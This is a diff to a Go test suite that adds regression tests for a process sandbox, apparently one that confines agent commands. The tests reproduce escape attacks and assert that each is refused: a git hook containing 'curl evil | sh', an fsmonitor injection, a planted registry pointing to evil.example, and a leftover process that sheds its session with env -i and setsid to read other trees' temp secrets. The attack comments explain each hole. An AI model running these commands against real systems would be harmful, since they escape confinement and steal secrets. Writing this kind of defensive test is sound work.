@@ -649,3 +649,183 @@ func TestAttackServeTokenFile(t *testing.T) {
 		}
 	}
 }
+
+// TestAttackReadOnlyParentRenamed: a ReadOnly path below a directory the
+// tree may rename (Write: [ws], ReadOnly: [ws/repo/.git]: a repository in
+// a wider workspace) was bound read-only where it lay, and the bind moves
+// with its directory: the tree renamed ws/repo away (its .git still
+// read-only, at ws/repo.old/.git), made ws/repo/.git again with a hook,
+// and the host's next git in ws/repo ran the hook unconfined. Nothing was
+// missing and no mount came or went, so neither the live repair nor the
+// next Start saw it; the next tree wrote ws/repo/.git directly too. The
+// directories between a Write directory and a ReadOnly path are now
+// mount points in the namespace, which a tree cannot rename. The control:
+// an unconfined tree makes the same moves.
+func TestAttackReadOnlyParentRenamed(t *testing.T) {
+	requireRootSandbox(t)
+	attack := `mv repo repo.old && mkdir -p repo/.git/hooks && echo 'curl evil | sh' > repo/.git/hooks/pre-commit; echo '[core] fsmonitor = evil' >> repo/.git/config`
+	setup := func(t *testing.T) (ws, hook string) {
+		ws = t.TempDir()
+		if err := os.MkdirAll(filepath.Join(ws, "repo", ".git", "hooks"), 0o755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(filepath.Join(ws, "repo", ".git", "config"), []byte("[core]\n"), 0o644); err != nil {
+			t.Fatal(err)
+		}
+		return ws, filepath.Join(ws, "repo", ".git", "hooks", "pre-commit")
+	}
+	ws, hook := setup(t)
+	runSandboxed(t, newManager(t), agentproc.Request{WorkDir: ws, Command: attack})
+	if _, err := os.Stat(hook); err != nil {
+		t.Fatalf("control: an unconfined tree's moves left no hook: %v", err)
+	}
+	ws, hook = setup(t)
+	sb := agentproc.WorkspaceSandbox(ws)
+	sb.ReadOnly = append(sb.ReadOnly, filepath.Join(ws, "repo", ".git"))
+	m := newManager(t, agentproc.WithSandbox(sb))
+	for i, cmd := range []string{attack, `echo 'curl evil | sh' > repo/.git/hooks/pre-commit`} {
+		out := runSandboxed(t, m, agentproc.Request{WorkDir: ws, Command: cmd})
+		if _, err := os.Stat(hook); err == nil {
+			t.Fatalf("Start %d: a sandboxed tree made %s (ReadOnly %s), output %q; want it refused", i+1, hook, sb.ReadOnly[1], out.Text)
+		}
+	}
+	// The repository's files stay the tree's to write, and to move out
+	// (a copy across the mount point).
+	out := runSandboxed(t, m, agentproc.Request{WorkDir: ws, Command: `echo work > repo/f && mv repo/f g && cat g`})
+	if !strings.Contains(out.Text, "work") {
+		t.Errorf("a sandboxed tree writing and moving repo/f: output %q, want it done", out.Text)
+	}
+}
+
+// TestAttackCoverFileInWrite: as root, hidden files are covered by binds
+// of one empty file of mode 000 (sandboxCache.emptyFile), made in
+// os.TempDir(). A policy whose Write holds that directory (Write:
+// ["/tmp"], which the sandbox accepts) lets its tree, the file's owner
+// (uid 0), chmod and write it: every hidden file of every tree of the
+// Manager then reads as what it wrote (a planted ~/.npmrc with another
+// registry, say), for the Manager's life. The file and its directory are
+// now immutable (sandboxCache.emptyFile). The control reads the cover
+// empty before the plant; the tree's writes there go through.
+func TestAttackCoverFileInWrite(t *testing.T) {
+	requireRootSandbox(t)
+	home, err := os.MkdirTemp("/var/tmp", "agentproc-home-")
+	if err != nil {
+		t.Skip(err)
+	}
+	t.Cleanup(func() { _ = os.RemoveAll(home) })
+	if within, _ := filepath.Rel(os.TempDir(), home); !strings.HasPrefix(within, "..") {
+		t.Skipf("the home %s must lie outside the temp dir %s", home, os.TempDir())
+	}
+	t.Setenv("HOME", home)
+	npmrc := filepath.Join(home, ".npmrc")
+	if err := os.WriteFile(npmrc, []byte("//registry.npmjs.org/:_authToken=SECRET\n"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	ws := t.TempDir()
+	wide := agentproc.WorkspaceSandbox(ws)
+	wide.Write = append(wide.Write, os.TempDir())
+	m := newManager(t, agentproc.WithRedaction(false))
+	read := agentproc.Request{WorkDir: ws, Sandbox: agentproc.WorkspaceSandbox(ws), Command: "cat " + shellQuote(npmrc) + "; true"}
+	if out := runSandboxed(t, m, read); out.Text != "" && !strings.Contains(out.Text, "Permission denied") {
+		t.Fatalf("control: the cover read %q, want nothing", out.Text)
+	}
+	cover, err := agentproc.CoverFile(m)
+	if err != nil {
+		t.Fatal(err)
+	}
+	witness := filepath.Join(os.TempDir(), "agentproc-wide-"+strconv.Itoa(os.Getpid()))
+	t.Cleanup(func() { _ = os.Remove(witness) })
+	plant := `echo wrote > ` + shellQuote(witness) + `; chmod 644 ` + shellQuote(cover) + `; echo registry=http://evil.example/ > ` + shellQuote(cover) + `; true`
+	runSandboxed(t, m, agentproc.Request{WorkDir: ws, Sandbox: wide, Command: plant})
+	if _, err := os.Stat(witness); err != nil {
+		t.Fatalf("control: the wide tree could not write in %s: %v", os.TempDir(), err)
+	}
+	if out := runSandboxed(t, m, read); strings.Contains(out.Text, "evil") {
+		t.Errorf("a tree of another policy read %s as %q: the wide tree wrote the cover, want it refused", npmrc, out.Text)
+	}
+}
+
+// TestAttackLeftoverReadsNextTempDir: a process of a tree that sheds the
+// marker (env -i) and leaves the session (setsid) outlives its tree
+// without a cgroup (docs/containment.md says so), still confined, and
+// its namespace still binds the tree's temp dir. The dir, left empty,
+// was recycled by a rename, the same inode, for a later tree: the
+// leftover read that tree's temp files. A temp dir is now reused only
+// when the tree's cgroups were removed (then no process of it is left);
+// otherwise it is removed. The control: the later tree's file is there
+// for its own tree to read.
+func TestAttackLeftoverReadsNextTempDir(t *testing.T) {
+	requireRootSandbox(t)
+	ws := t.TempDir()
+	leak := filepath.Join(ws, "leak")
+	m := newManager(t, agentproc.WithSandbox(agentproc.WorkspaceSandbox(ws)), agentproc.WithRedaction(false))
+	// The leftover writes its PID first, for the cleanup to end it (it is
+	// this test's; no sweep finds it), then looks for files in its tree's
+	// temp dir for up to 10 s.
+	leftover := `echo $$ > "$OUT.pid"; i=0; while [ $i -lt 200 ]; do c=$(cat "$T"/* 2>/dev/null); if [ -n "$c" ]; then echo "$c" > "$OUT"; exit; fi; sleep 0.05; i=$((i+1)); done`
+	t.Cleanup(func() {
+		if data, err := os.ReadFile(leak + ".pid"); err == nil {
+			if pid, err := strconv.Atoi(strings.TrimSpace(string(data))); err == nil && pid > 1 {
+				_ = unix.Kill(pid, unix.SIGKILL)
+			}
+		}
+	})
+	a := runSandboxed(t, m, agentproc.Request{WorkDir: ws, Command: `(env -i PATH="$PATH" T="$TMPDIR" OUT=` + shellQuote(leak) +
+		` setsid sh -c ` + shellQuote(leftover) + ` > /dev/null 2>&1 &); echo started`})
+	if !strings.Contains(a.Text, "started") {
+		t.Fatalf("tree A: output %q", a.Text)
+	}
+	// Later trees, each with a secret in its temp dir while it waits for
+	// the leak (or 1 s); the second was handed A's dir here.
+	for i := range 3 {
+		out := runSandboxed(t, m, agentproc.Request{WorkDir: ws,
+			Command: `echo SECRET-OF-TREE-` + strconv.Itoa(i) + ` > "$TMPDIR/s"; n=0; while [ ! -e leak ] && [ $n -lt 20 ]; do sleep 0.05; n=$((n+1)); done; cat "$TMPDIR/s"`})
+		if !strings.Contains(out.Text, "SECRET-OF-TREE-") {
+			t.Fatalf("control: tree %d read %q from its own temp dir", i, out.Text)
+		}
+		if data, err := os.ReadFile(leak); err == nil {
+			t.Fatalf("a leftover of an earlier tree read %q from tree %d's temp dir, want it unreachable", data, i)
+		}
+	}
+}
+
+// TestAttackTempDirFromNoDefaultWriteWide: a NoDefaultWrite policy runs
+// its trees in the policy's namespace (no temp dir of their own), where
+// the shared temp root is hidden only if no Write directory holds it.
+// With Write: [os.TempDir()] it was neither hidden nor covered, and the
+// tree read the temp files of the Manager's other trees (and of every
+// Manager of the user). As root the namespace now covers the shared root
+// whatever Write holds. The controls: the other tree's file is there, and
+// the tree writes elsewhere in the temp dir.
+func TestAttackTempDirFromNoDefaultWriteWide(t *testing.T) {
+	requireRootSandbox(t)
+	home, err := os.MkdirTemp("/var/tmp", "agentproc-home-")
+	if err != nil {
+		t.Skip(err)
+	}
+	t.Cleanup(func() { _ = os.RemoveAll(home) })
+	if rel, _ := filepath.Rel(os.TempDir(), home); !strings.HasPrefix(rel, "..") {
+		t.Skipf("the home %s must lie outside the temp dir %s", home, os.TempDir())
+	}
+	t.Setenv("HOME", home)
+	ws := t.TempDir()
+	m := newManager(t, agentproc.WithSandbox(agentproc.WorkspaceSandbox(ws)), agentproc.WithRedaction(false))
+	b, bTmp := otherTree(t, m, ws)
+	wide := agentproc.WorkspaceSandbox(ws)
+	wide.NoDefaultWrite = true
+	wide.Write = append(wide.Write, os.TempDir())
+	witness := filepath.Join(os.TempDir(), "agentproc-wide-"+strconv.Itoa(os.Getpid()))
+	t.Cleanup(func() { _ = os.Remove(witness) })
+	out := runSandboxed(t, m, agentproc.Request{WorkDir: ws, Sandbox: wide,
+		Command: `echo wrote > ` + shellQuote(witness) + `; cat ` + shellQuote(filepath.Join(bTmp, "f"))})
+	if _, err := os.Stat(witness); err != nil {
+		t.Errorf("control: the NoDefaultWrite tree could not write in %s: %v (output %q)", os.TempDir(), err, out.Text)
+	}
+	if err := b.CloseStdin(testContext(t)); err != nil {
+		t.Fatal(err)
+	}
+	mustWait(t, b)
+	if strings.Contains(out.Text, "SECRET-OF-B") {
+		t.Errorf("a NoDefaultWrite tree with Write %s read tree B's temp file: output %q, want it refused", os.TempDir(), out.Text)
+	}
+}
